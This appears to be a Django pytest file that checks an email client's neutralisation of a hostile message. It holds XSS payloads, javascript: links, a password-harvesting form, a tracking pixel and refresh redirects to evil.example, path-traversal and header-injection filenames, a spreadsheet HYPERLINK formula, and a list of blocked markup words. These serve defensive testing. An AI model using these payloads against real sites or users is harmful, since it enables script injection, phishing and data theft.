"""An email of somebody who means harm: its frame, its files and its words, as a browser is given them."""

from __future__ import annotations

import pytest
from django.urls import reverse

from browsing import as_member
from factories import a_contact, a_mailbox, a_message
from letterbook.contacts.models import Contact
from letterbook.timeline.acquainting import bring_contacts

HTML = (
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example/>'
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg><a xlink:href=javascript:alert(1)>x</a></svg>"
    '<iframe srcdoc="<script>1</script>"></iframe><form action=//evil.example><input name=password></form>'
    '<img src="cid:other@message"><img src="cid:../../etc/passwd"><img src="/accounts/logout/">'
    '<img src="https://evil.example/pixel.gif"><a href="javascript:alert(1)">a</a><a href="https://evil.example">bank.example</a>'
    '<body background=//evil.example/b><div style="position:fixed;background:url(//evil.example/c)">x</div>'
)


def raw(*, filename: str = "proof.pdf", kind: str = "application/pdf") -> bytes:
    return (
        f"From: anna@lindwerk.example\r\nTo: alice@haldenrowe.example\r\nSubject: <b>Proof</b>\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{HTML}\r\n'
        f"--b\r\nContent-Type: {kind}\r\nContent-ID: <mine@message>\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{filename}\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"
    ).encode()


@pytest.fixture
def open_email(alice):
    def make(**part: str):
        message = a_message(
            a_mailbox(alice), a_contact(alice, "<img src=x onerror=alert(1)>"), raw=raw(**part),
            subject="<script>alert(1)</script>", text="<script>alert(1)</script> http://x\"onmouseover=alert(1)",
        )  # fmt: skip
        return as_member(alice), message

    return make


def test_the_frame_holds_nothing_that_acts_or_calls_home(open_email):
    """A1, A9 to A12, A17, A20, A21."""
    browser, message = open_email()
    answer = browser.get(reverse("letter-frame", args=[message.pk]))
    page = answer.content.decode()
    body = page.partition("</style>")[2].replace("https://evil.example", "LINK", 1)
    for word in (
        "script",
        "onerror",
        "srcdoc",
        "<form",
        "<input",
        "<meta",
        "<base",
        "svg",
        "cid:",
        "logout",
        "fixed",
        "url(",
        "javascript",
    ):
        assert word not in body, word
    assert "//evil.example" not in body
    assert 'rel="noopener noreferrer nofollow"' in page
    assert "leads to evil.example" in page
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "img-src 'self' data:;" in policy
    assert "allow-scripts" not in policy
    assert "form-action 'none'" in policy
    assert answer["Referrer-Policy"] == "no-referrer"
    with_images = browser.get(reverse("letter-frame", args=[message.pk]) + "?images=1")
    assert b"of=https%3A%2F%2Fevil.example%2Fpixel.gif" in with_images.content
    assert b'src="https:' not in with_images.content
    assert "script" not in with_images["Content-Security-Policy"].replace("allow-scripts", "script")


def test_words_of_an_email_are_words_on_every_page(open_email):
    """A26, C8."""
    browser, message = open_email()
    contact = Contact.objects.get()
    for path in (
        reverse("conversation", args=[message.thread_id]),
        reverse("contact", args=[contact.pk]),
        reverse("contacts"),
        reverse("today"),
        "/search?q=script",
        reverse("source", args=[message.pk]),
    ):
        page = browser.get(path).content.decode()
        assert "<script>alert" not in page, path
        assert "<img src=x" not in page, path
        assert '"onmouseover' not in page, path


@pytest.mark.parametrize(
    ("filename", "kind"),
    [
        ("a%0D%0ASet-Cookie%3A%20x%3D1.png", "image/png"),
        ("..%2F..%2Fetc%2Fpasswd", "text/html"),
        ("invoice.pdf%E2%80%AEexe", "image/svg+xml"),
        ("a%22%3B%20filename%3D%22b.html", "application/xhtml+xml"),
        ("%00.html", "text/html; charset=utf-7"),
    ],
)
@pytest.mark.parametrize("query", ["", "?inline=1"])
def test_a_file_is_saved_not_opened(filename, kind, query, open_email):
    """B10, F4, F6."""
    browser, message = open_email(filename=filename, kind=kind)
    answer = browser.get(reverse("attachment", args=[message.pk, 1]) + query)
    assert answer.status_code == 200, answer.content
    is_picture = kind == "image/png"
    assert answer["Content-Type"] == ("image/png" if is_picture else "application/octet-stream")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    said = answer["Content-Disposition"]
    assert said.startswith("inline" if is_picture and query else "attachment")
    assert not {"\r", "\n", "\0", "/", "\u202e"} & set(said)
    assert "Set-Cookie" not in answer.headers


def test_a_table_of_contacts_is_text_and_bounded(alice, at):
    """F7: formulas are kept as they are; a row that is too much is refused alone."""
    rows = [
        "Name,Email",
        '=HYPERLINK("//evil.example"),a@x.example',
        f"{'n' * 100_000},b@x.example",
        "Nul\0,c@x.example",
    ]
    outcome = bring_contacts(alice, "\n".join(rows).encode(), filename="a\0.csv", at=at)
    assert "=HYPERLINK" in " ".join(Contact.objects.values_list("name", flat=True))
    assert [row.line for row in outcome.refused] in ([3], [3, 4])
    assert not [name for name in Contact.objects.values_list("name", flat=True) if len(name) > 200]
